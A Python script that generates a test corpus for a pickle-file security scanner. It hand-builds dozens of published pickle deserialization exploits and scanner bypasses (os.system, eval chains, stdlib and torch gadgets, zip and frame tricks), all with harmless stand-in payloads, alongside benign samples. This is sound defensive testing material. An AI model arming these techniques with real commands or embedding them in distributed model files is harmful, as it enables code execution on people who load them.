#!/usr/bin/env python3
"""Generates the brine-scan evaluation corpus: malicious/ (published techniques, rebuilt with
harmless payloads: `true`, 127.0.0.1:9, /tmp/brine-canary) and benign/ (real files made by
numpy/joblib/torch/pandas/sklearn, copied from /work/shared/samples, plus generated ones).

Writes manifest.json: {path: {"label": "malicious"|"benign"|"review", "what": ..., "ref": ...}}.
"review" = benign but not loadable safely by construction (user classes, TorchScript): must
not be SAFE. Run from this directory: python3 gen_corpus.py [--samples DIR]
(`--only-archives` regenerates only the 7z and tar entries, merging them into the committed
manifest).
"""
import bz2, gzip, io, json, lzma, os, pickle, shutil, struct, sys, zipfile, zlib
import collections, datetime, decimal, fractions

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = sys.argv[sys.argv.index('--samples') + 1] if '--samples' in sys.argv else '/work/shared/samples'
MAN = {}


def out(label, name, data, what, ref=''):
    path = os.path.join(label if label != 'review' else 'benign', name)
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'wb') as f:
        f.write(data)
    MAN[path] = {'label': label, 'what': what, 'ref': ref}


# ---------- opcode helpers (the payloads are written by hand, as attackers do) ----------
def S(s):
    b = s.encode('utf-8')
    return b'\x8c' + bytes([len(b)]) + b if len(b) < 256 else b'X' + struct.pack('<I', len(b)) + b
def BS(s):  # protocol-0 STRING
    return b"S'" + s.encode() + b"'\n"
def U(s):
    return b'V' + s.encode('raw_unicode_escape') + b'\n'
def G(m, n):
    return b'c' + m.encode() + b'\n' + n.encode() + b'\n'
def SG(m, n):
    return S(m) + S(n) + b'\x93'
def T(*items):
    return b'(' + b''.join(items) + b't'
def R(f, *args):
    return f + T(*args) + b'R'
def I(n):
    return b'K' + bytes([n]) if 0 <= n < 256 else b'J' + struct.pack('<i', n)
def BB(b):
    return b'C' + bytes([len(b)]) + b if len(b) < 256 else b'B' + struct.pack('<I', len(b)) + b
P2, P4 = b'\x80\x02', b'\x80\x04'
STOP = b'.'
CMD = 'true'
CANARY = '/tmp/brine-canary'


def call(mod, name, *args, proto=2):
    f = G(mod, name) if proto < 4 else SG(mod, name)
    return (P2 if proto < 4 else P4) + R(f, *args) + STOP


def mal(name, data, what, ref=''):
    out('malicious', name, data, what, ref)


def gen_malicious():
    # --- picklescan tests/data ---
    mal('malicious0.pkl', b"c__builtin__\nglobals\n(tRp0\n0c__builtin__\ncompile\n(S'open(\"/dev/null\").read()'\nS''\nS'eval'\ntRp1\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp2\n0c__builtin__\napply\n(g2\n(g0\nS'__builtins__'\nttRp3\n0c__builtin__\ngetattr\n(g3\nS'eval'\ntR(g1\ng0\ntR.",
        'Sour Pickles chain: globals/compile/getattr(dict.get)/apply/eval', 'picklescan malicious0')
    for p in (0, 2, 4):
        if p == 0:
            mal(f'malicious1_v{p}.pkl', b"c__builtin__\neval\n(S'1+1'\ntR.", 'builtins.eval', 'picklescan malicious1')
            mal(f'malicious2_v{p}.pkl', b"cos\nsystem\n(S'true'\ntR.", 'os.system', 'picklescan malicious2')
        else:
            mal(f'malicious1_v{p}.pkl', call('builtins', 'eval', S('1+1'), proto=p), 'builtins.eval', 'picklescan malicious1')
            mal(f'malicious2_v{p}.pkl', call('os', 'system', S(CMD), proto=p), 'os.system', 'picklescan malicious2')
    mal('malicious3.pkl', b"chttplib\nHTTPSConnection\n(S'127.0.0.1'\nI9\ntR.", 'http.client.HTTPSConnection via py2 httplib', 'picklescan malicious3')
    mal('malicious4.pickle', call('requests.api', 'get', S('http://127.0.0.1:9/')), 'requests.get', 'picklescan malicious4')
    mal('malicious5.pickle', call('aiohttp.client', 'ClientSession'), 'aiohttp.ClientSession', 'picklescan malicious5')
    mal('malicious6.pkl', pickle.dumps(['a', 'b'], 2) + call('requests.api', 'get', S('http://127.0.0.1:9/')),
        'benign pickle followed by a payload pickle', 'picklescan malicious6')
    mal('malicious7.pkl', P2 + R(G('socket', 'create_connection'), T(S('127.0.0.1'), I(9))) + STOP, 'socket.create_connection', 'picklescan malicious7')
    mal('malicious8.pkl', P2 + R(G('subprocess', 'run'), b']' + S(CMD) + b'a') + STOP, 'subprocess.run', 'picklescan malicious8')
    mal('malicious9.pkl', call('sys', 'exit', I(0)), 'sys.exit', 'picklescan malicious9')
    mal('malicious10.pkl', b"(S'print(1)'\ni__builtin__\nexec\n.", 'INST builtins.exec', 'picklescan malicious10')
    # imaginaryCTF: PUT indices out of order, decoy torch strings, STACK_GLOBAL via GET.
    ctf = (P4 + U('torch') + b'p1\n0' + U('LongStorage') + b'p0\n0' + U('os') + b'p0\n0' + U('system') + b'p1\n0'
           + U('torch') + b'p2\n0' + b'g0\ng1\n\x93' + T(S(CMD)) + b'R' + STOP)
    mal('malicious11.pkl', ctf, 'PUT/GET index confusion with torch decoys -> os.system', 'picklescan #22 imaginaryCTF')
    mal('malicious-invalid-bytes.pkl', ctf + b'\xff\xfe junk', 'same with trailing junk', 'picklescan')
    inner = call('os', 'system', S(CMD))
    latin = inner.decode('latin1')
    mal('malicious13a.pkl', P2 + R(G('pickle', 'loads'), R(G('_codecs', 'encode'), b'X' + struct.pack('<I', len(latin.encode())) + latin.encode(), S('latin1'))) + STOP,
        'nested pickle.loads of _codecs.encode bytes', 'picklescan malicious13a')
    mal('malicious13b.pkl', P4 + R(SG('_pickle', 'loads'), BB(inner)) + STOP, 'nested _pickle.loads', 'picklescan malicious13b')
    mal('malicious14.pkl', call('runpy', '_run_code', S('print(1)'), b'}'), 'runpy._run_code', 'picklescan malicious14')
    mal('malicious15a.pkl', P4 + R(SG('bdb', 'Bdb.run'), R(SG('bdb', 'Bdb')), S('print(1)')) + STOP, 'bdb.Bdb.run (dotted)', 'picklescan malicious15')
    mal('malicious15b.pkl', P2 + R(G('bdb', 'Bdb'), ) + b'0' + R(G('bdb', 'Bdb.run'), b'N', S('print(1)')) + STOP, 'bdb.Bdb.run', 'picklescan malicious15')
    mal('malicious16.pkl', P2 + R(G('pip', 'main'), b']' + b'(' + S('install') + S('brine-canary-nonexistent') + b'e') + STOP, 'pip.main install', 'CVE-2025-1716')
    mal('malicious17.pkl', call('torch._inductor.codecache', 'compile_file', S(CANARY), S(CANARY), b']'), 'torch._inductor.codecache.compile_file', 'GHSA-655q-fx9r-782v')
    mal('malicious18.pkl', call('pydoc', 'pipepager', S('x'), S(CMD)), 'pydoc.pipepager', 'GHSA-655q-fx9r-782v')
    mal('malicious19.pkl', P2 + R(G('functools', 'partial'), G('torch', 'load'), S(CANARY)) + STOP, 'functools.partial(torch.load)', 'GHSA-655q-fx9r-782v')
    mal('malicious20.pkl', P2 + G('venv', 'create') + T(S('/tmp/brine-venv')) + b'}' + S('prompt') + S('$(true)') + b's' + b'\x92' + STOP if False else
        P2 + R(G('venv', 'create'), S('/tmp/brine-venv')) + STOP, 'venv.create', 'GHSA-655q-fx9r-782v')
    mal('broken_model.pkl', P2 + R(G('builtins', 'exec'), S('print(1)')) + b'0' + b'(K\x01K\x02', 'nullifAI broken pickle: exec then truncated stream', 'nullifAI')
    mal('malicious21.pkl', call('timeit', 'timeit', S(CMD)), 'timeit.timeit', 'picklescan data2')
    mal('malicious22.pkl', call('numpy.testing._private.utils', 'runstring', S('1'), b'}'), 'numpy runstring', 'picklescan data2')
    mal('malicious23.pkl', P4 + BS('os') + BS('system') + b'\x93' + T(S(CMD)) + b'R' + STOP, 'STACK_GLOBAL fed by STRING', 'GHSA-9gvj-pp9x-gcfr')
    mal('keyerror-exploit.pkl', P4 + SG('os', 'system') + T(S(CMD)) + b'R0' + b'h\x63' + STOP, 'payload then BINGET of a missing memo key', 'picklescan d3273f4')
    mal('type-confusion-exploit.pkl', P4 + SG('os', 'system') + T(S(CMD)) + b'R0' + I(5) + b'\x94' + b'h\x00' + S('x') + b'\x93' + STOP,
        'payload then int memo entry used as STACK_GLOBAL operand', 'picklescan d3273f4')
    mal('io_FileIO.pkl', call('_io', 'FileIO', S('/etc/hostname')), '_io.FileIO', 'GHSA-9726-w42j-3qjr')
    mal('urllib_request_urlopen.pkl', call('urllib.request', 'urlopen', S('http://127.0.0.1:9/')), 'urllib.request.urlopen', 'GHSA-9726-w42j-3qjr')
    mal('logging_FileHandler.pkl', call('logging', 'FileHandler', S(CANARY)), 'logging.FileHandler', 'GHSA-m7j5-r2p5-c39r')
    mal('types_CodeType.pkl', call('types', 'CodeType', I(0)), 'types.CodeType', 'GHSA-9m3x-qqw2-h32h')
    mal('cloudpickle_codeinjection.pkl', call('cloudpickle.cloudpickle', '_make_function', b'N', b'}'), 'cloudpickle._make_function', 'GHSA-9m3x-qqw2-h32h')
    mal('GHSA-jgw4-cr84-mqxg.bin', call('os', 'system', S(CMD)), 'plain pickle with a .bin extension', 'CVE-2025-10155')
    gadgets = [
        ('torch.utils.bottleneck.__main__', 'run_cprofile'), ('torch.utils.bottleneck.__main__', 'run_autograd_prof'),
        ('torch._dynamo.guards', 'GuardBuilder.get'), ('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression'),
        ('torch.utils.collect_env', 'run'), ('torch.utils.collect_env', 'run_and_read_all'),
        ('torch.utils.data.datapipes.utils.decoder', 'basichandlers'), ('torch.jit.unsupported_tensor_ops', 'execWrapper'),
        ('torch.utils._config_module', 'ConfigModule.load_config'), ('trace', 'Trace.run'), ('trace', 'Trace.runctx'),
        ('profile', 'Profile.run'), ('profile', 'run'), ('cProfile', 'run'), ('cProfile', 'runctx'),
        ('code', 'InteractiveInterpreter.runcode'), ('doctest', 'debug_script'), ('lib2to3.pgen2.grammar', 'Grammar.loads'),
        ('lib2to3.pgen2.pgen', 'ParserGenerator.make_label'), ('idlelib.run', 'Executive.runcode'),
        ('idlelib.pyshell', 'ModifiedInterpreter.runcode'), ('idlelib.calltip', 'get_entity'), ('idlelib.autocomplete', 'AutoComplete.get_entity'),
        ('idlelib.debugobj', 'ObjectTreeItem.SetText'), ('ensurepip', '_run_pip'),
        ('asyncio.unix_events', '_UnixSubprocessTransport._start'), ('distutils.file_util', 'write_file'), ('ctypes', 'CDLL'),
        ('pty', 'spawn'), ('uuid', '_get_command_stdout'), ('_osx_support', '_read_output'), ('_aix_support', '_read_cmd_output'),
        ('imaplib', 'IMAP4_stream'), ('_pyrepl.pager', 'pipe_pager'), ('test.support.script_helper', 'assert_python_ok'),
        ('numpy.f2py.crackfortran', 'getlincoef'), ('smtplib', 'SMTP'), ('ftplib', 'FTP'), ('multiprocessing.util', 'spawnv_passfds'),
        ('runpy', 'run_path'), ('_interpreters', 'run_string'), ('_xxsubinterpreters', 'run_string'), ('imp', 'load_source'),
        ('pipes', 'Template'), ('ssl', 'get_server_certificate'), ('webbrowser', 'open'), ('shutil', 'rmtree'),
        ('importlib', 'import_module'), ('marshal', 'loads'), ('torch.serialization', 'load'), ('torch.hub', 'load'),
    ]
    for m, n in gadgets:
        proto = 4 if '.' in n else 2
        mal(f'GHSA-gadget-{m}.{n}.pkl', call(m, n, S(CMD), proto=proto), f'{m}.{n}', 'picklescan/fickling GHSA gadget lists')
    # Resolvers and chains.
    mal('pkgutil_resolve_name.pkl', P2 + R(R(G('pkgutil', 'resolve_name'), S('os:system')), S(CMD))[:-0 or None] + STOP if False else
        P2 + G('pkgutil', 'resolve_name') + T(S('os:system')) + b'R' + T(S(CMD)) + b'R' + STOP, "pkgutil.resolve_name('os:system')", 'GHSA-vvpj-8cmc-gx39')
    mal('methodcaller_pydoc_locate.pkl', P2 + G('operator', 'methodcaller') + T(S('system'), S(CMD)) + b'R' + T(R(G('builtins', '__import__'), S('os'))) + b'R' + STOP,
        "operator.methodcaller('system', cmd)(__import__('os'))", 'GHSA-84r2')
    mal('operator_attrgetter_import.pkl', P4 + SG('_operator', 'attrgetter') + T(S('system')) + b'R' + T(R(SG('builtins', '__import__'), S('os'))) + b'R' + T(S(CMD)) + b'R' + STOP,
        "_operator.attrgetter('system')(__import__('os'))(cmd)", 'GHSA-955r / GHSA-46h3')
    mal('operator_methodcaller_import.pkl', P4 + SG('_operator', 'methodcaller') + T(S('system'), S(CMD)) + b'R' + T(R(SG('builtins', '__import__'), S('os'))) + b'R' + STOP,
        "_operator.methodcaller('system', cmd)(__import__('os'))", 'GHSA-955r / GHSA-46h3')
    mal('import_getattr.pkl', P2 + G('builtins', 'getattr') + T(R(G('builtins', '__import__'), S('os')), S('system')) + b'R' + T(S(CMD)) + b'R' + STOP,
        "getattr(__import__('os'), 'system')(cmd)", 'fickling GHSA-h4rm-mm56-xf63')
    mal('importlib_getattr.pkl', P2 + G('builtins', 'getattr') + T(R(G('importlib', 'import_module'), S('os')), S('system')) + b'R' + T(S(CMD)) + b'R' + STOP,
        "getattr(importlib.import_module('os'), 'system')(cmd)", 'picklescan #66')
    mal('marshal_functiontype.pkl', P2 + G('types', 'FunctionType') + T(R(G('marshal', 'loads'), BB(b'\xe3' + b'\x00' * 20)), b'}') + b'R' + b')R' + STOP,
        'types.FunctionType(marshal.loads(code), {})()', 'fickling GHSA-565g-hwwr-4pp3')
    mal('dotted_pathlib_os_system.pkl', P4 + SG('pathlib', 'os.system') + T(S(CMD)) + b'R' + STOP, "STACK_GLOBAL('pathlib', 'os.system')", 'fickling GHSA-5j3x-jp52-966f')
    mal('dotted_shutil_os_system.pkl', P4 + SG('shutil', 'os.system') + T(S(CMD)) + b'R' + STOP, "STACK_GLOBAL('shutil', 'os.system')", 'fickling benchmark _rand_split_import')
    mal('obj_pop_smtp.pkl', P2 + b'(' + G('smtplib', 'SMTP') + S('127.0.0.1') + I(9) + b'o0' + b'N' + STOP, 'OBJ call whose result is POPped', 'fickling GHSA-mxhj-88fx-4pcv')
    mal('obj_pty_spawn.pkl', P4 + b'(' + SG('pty', 'spawn') + S(CMD) + b'o' + STOP, 'pty.spawn via OBJ', 'fickling GHSA-r7v6-mfhq-g3m2')
    mal('frame_memoize_build_pty.pkl', P4 + b'\x95' + struct.pack('<Q', 22) + S('pty') + b'\x94' + S('spawn') + b'\x94' + b'\x93' + b'\x94' + T(S(CMD)) + b'R' + b'\x94' + b'}b' + STOP,
        'pty.spawn via FRAME/MEMOIZE/BUILD', 'fickling GHSA-r7v6')
    mal('builtins_dict_get.pkl', P4 + SG('builtins', 'dict.get') + T(SG('numpy', '__builtins__'), S('eval')) + b'R' + T(S('1+1')) + b'R' + STOP,
        "dict.get(numpy.__builtins__, 'eval')('1+1')", 'modelscan #89')
    mal('numpy_core_sys_modules.pkl', P4 + SG('numpy', 'core._internal.sys.modules') + b'0N' + STOP, 'numpy core._internal.sys.modules traversal', 'modelscan #89')
    mal('build_plant_numpy_prod.pkl', P4 + SG('numpy', 'prod') + b'N}' + S('a') + S('os') + S('b') + S('system') + b'\x86' + b'\x86b0' if False else
        P4 + SG('numpy', 'prod') + b'N}' + S('a') + S('os') + b's' + b'\x86' + b'b0' + SG('numpy', 'prod.a') + S('system') + b'\x93' + T(S(CMD)) + b'R' + STOP,
        'BUILD slotstate plants a string on numpy.prod, dotted read-back feeds STACK_GLOBAL', 'modelscan #85')
    mal('numpy_size_shape_gadget.pkl', P4 + SG('numpy', 'size') + b'}' + S('shape') + SG('numpy', '__builtins__') + b'sb0' + STOP,
        'numpy.size + BUILD shape=__builtins__', 'modelscan #330')
    mal('sys_module_override_sploit.pkl', P2 + G('torch', '_utils') + b'}' + S('_rebuild_tensor') + S('builtins') + b'sb0' + G('torch._utils', '_rebuild_tensor') + b'0' + G('builtins', 'eval') + T(S('1')) + b'R' + STOP,
        'BUILD rewrites torch._utils attributes', 'picklescan sys_module_override_sploit')
    mal('doyensec_memo_confusion.pkl', P4 + S('torch') + b'q\x00' + S('_utils') + b'\x94' + b'0' + S('os') + b'\x94' + S('system') + b'\x94' + b'h\x01h\x02\x93' + T(S(CMD)) + b'R' + STOP,
        'BINPUT/MEMOIZE mixing so memo trackers mislabel os/system', 'picklescan #14 (Doyensec)')
    # FRAME straddle (gh-154848): the frame ends inside an opcode.
    body = SG('os', 'system') + T(S(CMD)) + b'R' + STOP
    mal('frame_straddle.pkl', P4 + b'\x95' + struct.pack('<Q', 3) + body, 'FRAME shorter than the opcodes inside it', 'CPython gh-154848')
    hidden = SG('os', 'system') + T(S(CMD)) + b'R0'
    mal('frame_hidden_binbytes.pkl', P4 + b'\x95' + struct.pack('<Q', 5) + b'B' + struct.pack('<I', len(hidden)) + hidden + b'N' + STOP,
        'BINBYTES straddling a FRAME end hides GLOBAL/REDUCE from file readers', 'CPython gh-154848')
    mal('exception_after_exec.pkl', P2 + R(G('os', 'system'), S(CMD)) + b'0' + R(G('builtins', 'int'), S('not a number')) + STOP,
        'payload runs, then the load raises on purpose', 'Hide and Seek: exception-oriented programming')
    mal('invalid_opcode_after_payload.pkl', P2 + R(G('os', 'system'), S(CMD)) + b'\xff', 'payload then invalid opcode', 'nullifAI variant')
    mal('ext_code.pkl', P2 + b'\x82\x01' + T(S(CMD)) + b'R' + STOP, 'EXT1 registry reference called', 'copyreg extension registry')
    mal('persistent_load_call.pkl', P2 + b'P' + b'os.system\n' + T(S(CMD)) + b'R' + STOP, 'persistent id result called', 'loader-defined persistent_load')
    mal('newobj_ex_subprocess.pkl', P4 + SG('subprocess', 'Popen') + T(b']' + S(CMD) + b'a') + b'}\x92' + STOP, 'NEWOBJ_EX subprocess.Popen', 'NEWOBJ_EX')
    mal('copyreg_reconstructor_evil.pkl', P2 + R(G('copy_reg', '_reconstructor'), G('subprocess', 'Popen'), G('__builtin__', 'object'), b'N') + STOP,
        'copyreg._reconstructor over a non-allowed class', 'copyreg')
    mal('defaultdict_factory.pkl', P2 + R(G('collections', 'defaultdict'), G('os', 'system')) + STOP, 'defaultdict with os.system factory', 'allowed container, denied factory')
    mal('scanner_deactivation.pkl', call('fickling', 'hook'), 'imports a scanner', 'fickling ScannerDeactivation')
    mal('unknown_package.pkl', call('evilpkg.payload', 'run', S(CMD)), 'non-allowlisted third-party global', 'allow-list first')
    mal('dill_loads.pkl', P2 + R(G('dill', 'loads'), BB(inner)) + STOP, 'dill.loads nested', 'modelscan #28')


def torch_zip(data_pkl, storages=None, prefix='archive', extra=None, method=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', method) as z:
        z.writestr(f'{prefix}/data.pkl', data_pkl)
        z.writestr(f'{prefix}/byteorder', b'little')
        for k, v in (storages or {}).items():
            z.writestr(f'{prefix}/data/{k}', v)
        z.writestr(f'{prefix}/version', b'3\n')
        for k, v in (extra or {}).items():
            z.writestr(f'{prefix}/{k}', v)
    return bio.getvalue()


def state_dict_pkl(numel=4, size=(2, 2), stride=(2, 1), tail=b''):
    pid = T(S('storage'), G('torch', 'FloatStorage'), S('0'), S('cpu'), I(numel)) + b'Q'
    tensor = R(G('torch._utils', '_rebuild_tensor_v2'), pid, I(0), T(*[I(s) for s in size]), T(*[I(s) for s in stride]), b'\x89', R(G('collections', 'OrderedDict')))
    return P2 + R(G('collections', 'OrderedDict')) + S('w') + tensor + tail + b's' + STOP


def patch_all(data, old, new):
    assert len(old) == len(new)
    return data.replace(old, new)


def gen_containers():
    evil = call('os', 'system', S(CMD))
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('model.pkl', evil)
    mal('malicious1.zip', bio.getvalue(), 'pickle in a zip', 'picklescan malicious1.zip')
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('archive/data.txt', evil)
    mal('malicious1_wrong_ext.zip', bio.getvalue(), 'pickle stored as data.txt', 'CVE-2025-1889')
    tz = torch_zip(evil, {'0': b'\0' * 16})
    mal('torch_zip_os_system.pt', tz, 'torch zip whose data.pkl calls os.system', 'torch zip')
    mal('malicious1_central_directory.zip', tz.replace(b'archive/data.pkl', b'archive/datap.kl', 1), 'local-header name mismatch', 'CVE-2025-1944')
    for flag in (0x1, 0x20, 0x40):
        d = bytearray(tz)
        for sig, off in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
            i = d.find(sig)
            while i >= 0:
                f = struct.unpack_from('<H', d, i + off)[0] | flag
                struct.pack_into('<H', d, i + off, f)
                i = d.find(sig, i + 4)
        mal(f'malicious1_{flag:#x}.zip', bytes(d), f'zip flag bit {flag:#x}', 'CVE-2025-1945')
    d = bytearray(tz)
    i = d.find(b'PK\x01\x02')
    struct.pack_into('<I', d, i + 16, 0xdeadbeef)
    j = d.find(b'PK\x03\x04')
    struct.pack_into('<I', d, j + 14, 0xdeadbeef)
    mal('malicious1_crc.zip', bytes(d), 'CRC mismatch', 'CVE-2025-10156')
    bio = io.BytesIO()
    import warnings
    warnings.simplefilter('ignore')
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('archive/data.pkl', evil)
        z.writestr('archive/data.pkl', state_dict_pkl())
        z.writestr('archive/data/0', b'\0' * 16)
    mal('duplicate_names.pt', bio.getvalue(), 'duplicate member names, payload first', 'SCAN-NOTES duplicate names')
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('inner.zip', tz)
    mal('nested_zip.zip', bio.getvalue(), 'torch zip inside a zip', 'modelscan PR #106')
    mal('malicious_deflated.pt', torch_zip(evil, {'0': b'\0' * 16}, method=zipfile.ZIP_DEFLATED), 'deflated data.pkl', 'zip')
    for name, comp in (('gz', gzip.compress), ('bz2', bz2.compress), ('xz', lzma.compress), ('zlib', zlib.compress),
                       ('lzma', lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE))):
        mal(f'compressed_payload.{name}', comp(evil), f'{name}-wrapped pickle', 'SCAN-NOTES: compression misses')
    try:
        import lz4.frame
        mal('compressed_payload.lz4', lz4.frame.compress(evil), 'lz4-wrapped pickle', 'joblib lz4')
    except ImportError:
        pass
    try:
        import zstandard
        mal('compressed_payload.zst', zstandard.ZstdCompressor().compress(evil), 'zstd-wrapped pickle', 'zstd')
    except ImportError:
        pass
    mal('gzip_in_zip.zip', (lambda: (lambda b: (b.seek(0), b.read())[1])((lambda b: (zipfile.ZipFile(b, 'w').writestr('model.bin', gzip.compress(evil)), b)[1])(io.BytesIO())))(),
        'gzip pickle inside a zip (.bin)', 'nesting')
    # .npy object array with a payload (dns_exfiltration.npy).
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + ' ' * (117 - len(hdr)) + '\n'
    mal('dns_exfiltration.npy', b'\x93NUMPY\x01\x00' + struct.pack('<H', len(hdr)) + hdr.encode() + call('ssl', 'get_server_certificate', T(S('127.0.0.1'), I(9))),
        'object .npy whose pickle calls ssl.get_server_certificate', 'picklescan data2')
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('arr_0.npy', b'\x93NUMPY\x01\x00' + struct.pack('<H', len(hdr)) + hdr.encode() + evil)
    mal('object_payload.npz', bio.getvalue(), 'npz with a malicious object member', 'npz')
    # joblib: payload after a raw array buffer (aisbom PR #91).
    mal('joblib_payload_after_buffer.joblib', joblib_stream(tail=SG('os', 'system') + T(S(CMD)) + b'R'), 'joblib raw buffer, then a payload', 'aisbom PR #91')
    # Legacy torch stacked pickles.
    mal('pytorch_magic_bypass.pt', P2 + R(G('builtins', 'eval'), S('0x1950A86A20F9469CFC6C')) + STOP + P2 + b'M\xe9\x03' + STOP + P2 + b'}' + STOP + P2 + b'}' + STOP + evil,
        'legacy torch: magic from eval, payload in the 5th pickle', 'GHSA-97f8-7cmv-76j2')
    mal('legacy_torch_payload.pt', legacy_torch(main=evil[2:-1]), 'legacy torch with a payload in the main pickle', 'legacy torch')
    # Structural: only allowlisted globals.
    mal('tensor_oob.pt', torch_zip(state_dict_pkl(numel=4, size=(1000000,), stride=(1,)), {'0': b'\0' * 16}),
        'tensor view far past its storage, allowlisted globals only', 'CVE-2026-24747')
    mal('storage_numel_mismatch.pt', torch_zip(state_dict_pkl(numel=1 << 20, size=(2,), stride=(1,)), {'0': b'\0' * 16}),
        'storage numel larger than the archive record', 'CVE-2026-24747')
    setitem = P2 + R(G('torch._utils', '_rebuild_tensor_v2'), T(S('storage'), G('torch', 'FloatStorage'), S('0'), S('cpu'), I(4)) + b'Q', I(0), T(I(4)), T(I(1)), b'\x89', R(G('collections', 'OrderedDict'))) + I(0) + I(1) + b's' + STOP
    mal('setitem_on_tensor.pt', torch_zip(setitem, {'0': b'\0' * 16}), 'SETITEM on a tensor (non-dict target)', 'CVE-2026-24747')
    ts = torch_zip(P2 + G('__torch__', 'M') + b')\x81' + STOP, {}, extra={'constants.pkl': P2 + b').', 'code/__torch__/m.py': b'def forward(self):\n    ops.prim.system("true")\n'})
    mal('torchscript_payload.pt', ts, 'TorchScript archive with code (dispatched to torch.jit.load)', 'CVE-2025-32434')
    try:
        import py7zr
        bio = io.BytesIO()
        with py7zr.SevenZipFile(bio, 'w') as z:
            z.writestr(evil, 'archive/data.pkl')
        mal('malicious1.7z', bio.getvalue(), 'torch archive repacked as 7z', 'nullifAI')
    except ImportError:
        pass


def joblib_stream(tail=b'', raw=b'cos\nsystem\n(S\'true\'\ntR.' + b'\0' * 5):
    n = len(raw) // 8
    raw = raw[:n * 8]
    dtype = R(SG('numpy', 'dtype'), S('f8'), b'\x89', b'\x88') + T(I(3), S('<'), b'NNN', b'J\xff\xff\xff\xff' * 2, I(0)) + b'b'
    state = b'}(' + S('subclass') + SG('numpy', 'ndarray') + S('shape') + I(n) + b'\x85' + S('order') + S('C') + S('dtype') + dtype + S('allow_mmap') + b'\x88' + S('numpy_array_alignment_bytes') + I(16) + b'ub'
    head = P4 + b']' + b'(' + SG('joblib.numpy_pickle', 'NumpyArrayWrapper') + b')\x81' + state
    pos = len(head) + 1
    pad = 16 - (pos % 16)
    return head + bytes([pad]) + b'\xff' * pad + raw + tail + b'e' + STOP


def legacy_torch(main):
    magic = P2 + b'\x8a\x0a' + (0x1950a86a20f9469cfc6c).to_bytes(10, 'little') + STOP
    proto = P2 + b'M\xe9\x03' + STOP
    sysinfo = pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, 2)
    keys = pickle.dumps(['0'], 2)
    return magic + proto + sysinfo + P2 + main + STOP + keys + struct.pack('<q', 4) + b'\0' * 16


def gen_benign():
    for d in ('numpy', 'npy', 'joblib', 'sklearn', 'pandas', 'torch', 'safetensors'):
        src = os.path.join(SAMPLES, d)
        if not os.path.isdir(src):
            continue
        for f in sorted(os.listdir(src)):
            if f.endswith('.buf0'):
                continue
            label = 'review' if f in ('model_full.pt', 'torchscript.pt') else 'benign'
            with open(os.path.join(src, f), 'rb') as fh:
                out(label, f'samples-{d}-{f}', fh.read(), f'{d} sample made by the real library', 'shared/samples')
    values = {
        'scalars': [None, True, False, 0, -1, 255, 65536, 2**70, -2**70, 1.5, 'text', 'ünï', b'bytes', bytearray(b'ba')],
        'containers': {'list': [1, 2, [3, [4]]], 'tuple': (1, (2, 3)), 'set': {1, 2}, 'frozenset': frozenset({3}), 'dict': {(1, 2): 'k'}},
        'stdlib': [collections.OrderedDict(a=1), collections.Counter('aab'), collections.deque([1, 2]), collections.defaultdict(list, a=[1]),
                   datetime.datetime(2026, 11, 25, 12, 0), datetime.date(2026, 1, 1), datetime.timedelta(seconds=5), decimal.Decimal('1.25'),
                   fractions.Fraction(1, 3), complex(1, 2), slice(1, 5, 2), range(10)],
        'shared': (lambda a: [a, a, {'x': a}])([1, 2]),
        'recursive': (lambda l: (l.append(l), l)[1])([]),
        'big_dict': {f'key{i}': i * 0.5 for i in range(3000)},
    }
    for name, v in values.items():
        for p in range(6):
            out('benign', f'gen-{name}-p{p}.pkl', pickle.dumps(v, p), f'pickle.dumps({name}) protocol {p}', 'CPython pickle')
    out('benign', 'gen-multi-stream.pkl', pickle.dumps([1], 4) + pickle.dumps({'a': 2}, 4), 'two pickles back to back', 'CPython pickle')
    out('benign', 'gen-scalars-p4.pkl.gz', gzip.compress(pickle.dumps(values['scalars'], 4)), 'gzip pickle', 'CPython')
    out('benign', 'gen-scalars-p4.pkl.bz2', bz2.compress(pickle.dumps(values['scalars'], 4)), 'bz2 pickle', 'CPython')
    out('benign', 'gen-scalars-p4.pkl.xz', lzma.compress(pickle.dumps(values['scalars'], 4)), 'xz pickle', 'CPython')
    out('benign', 'gen-state_dict.pt', torch_zip(state_dict_pkl(), {'0': b'\0' * 16}), 'torch-like state_dict zip (hand-built)', 'torch zip layout')
    out('benign', 'gen-state_dict_legacy.pt', legacy_torch(state_dict_pkl()[2:-1]), 'legacy stacked torch checkpoint (hand-built)', 'torch legacy layout')
    out('benign', 'gen-joblib-raw-looks-like-pickle.joblib', joblib_stream(), 'joblib raw buffer whose bytes look like cos/system', 'joblib layout')
    try:
        import numpy as np
        rs = np.random.RandomState(0)
        gen = np.random.default_rng(0)
        for p in (2, 4, 5):
            out('benign', f'gen-numpy-randomstate-p{p}.pkl', pickle.dumps(rs, p), 'numpy RandomState', 'numpy')
            out('benign', f'gen-numpy-generator-p{p}.pkl', pickle.dumps(gen, p), 'numpy Generator (PCG64)', 'numpy')
            out('benign', f'gen-numpy-mixed-p{p}.pkl', pickle.dumps({'a': np.arange(6).reshape(2, 3), 's': np.float64(1.5), 'i': np.int64(3),
                                                                   'o': np.array(['x', None], dtype=object), 'dt': np.dtype('M8[ns]')}, p), 'numpy mix', 'numpy')
        bio = io.BytesIO()
        np.save(bio, np.array([{'a': 1}, [2]], dtype=object), allow_pickle=True)
        out('benign', 'gen-object.npy', bio.getvalue(), 'object .npy', 'numpy')
        bio = io.BytesIO()
        np.savez_compressed(bio, a=np.arange(3), b=np.array([None, 'x'], dtype=object))
        out('benign', 'gen-object.npz', bio.getvalue(), 'npz with an object member', 'numpy')
    except ImportError:
        pass
